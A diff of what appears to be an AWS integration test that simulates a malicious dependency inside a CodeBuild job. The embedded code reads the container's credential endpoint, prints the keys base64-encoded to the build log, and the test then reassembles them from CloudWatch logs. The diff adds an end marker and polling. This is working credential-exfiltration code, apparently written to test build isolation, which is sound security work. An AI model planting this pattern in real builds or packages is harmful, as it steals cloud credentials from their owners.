@@ -27,6 +27,7 @@ const root = rootOf(devops);
 const BAD_DEPENDENCY = `
 const answer = await fetch(process.env.AWS_CONTAINER_CREDENTIALS_FULL_URI ?? 'http://169.254.170.2' + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI);
 for (const part of Buffer.from(await answer.text()).toString('base64').match(/.{1,200}/g)) console.log('STOLEN ' + part);
+console.log('STOLEN ALL');
 `;
 const BUILDSPEC = `version: 0.2
 env:
@@ -56,10 +57,14 @@ const stolen = async () => {
   });
   expect(ended.buildStatus).toBe('SUCCEEDED');
   const { groupName: logGroupName = '', streamName: logStreamName = '' } = ended.logs ?? {};
-  const { events = [] } = await new CloudWatchLogsClient(root).send(
-    new GetLogEventsCommand({ logGroupName, logStreamName, startFromHead: true }),
-  );
-  const parts = events.flatMap(({ message = '' }) => /STOLEN (\S+)/.exec(message)?.[1] ?? []);
+  // CloudWatch has the last lines of a build some time after its end.
+  const parts = await eventually('the log has all that was printed', async () => {
+    const { events = [] } = await new CloudWatchLogsClient(root).send(
+      new GetLogEventsCommand({ logGroupName, logStreamName, startFromHead: true }),
+    );
+    const printed = events.flatMap(({ message = '' }) => /^STOLEN (\S+)/.exec(message.trim())?.[1] ?? []);
+    return printed.at(-1) === 'ALL' ? printed.slice(0, -1) : undefined;
+  });
   const { AccessKeyId, SecretAccessKey, Token } = JSON.parse(Buffer.from(parts.join(''), 'base64').toString()) as Record<string, string>;
   const credentials = { accessKeyId: AccessKeyId ?? '', secretAccessKey: SecretAccessKey ?? '', sessionToken: Token ?? '' };
   return { region: testRegion, credentials };
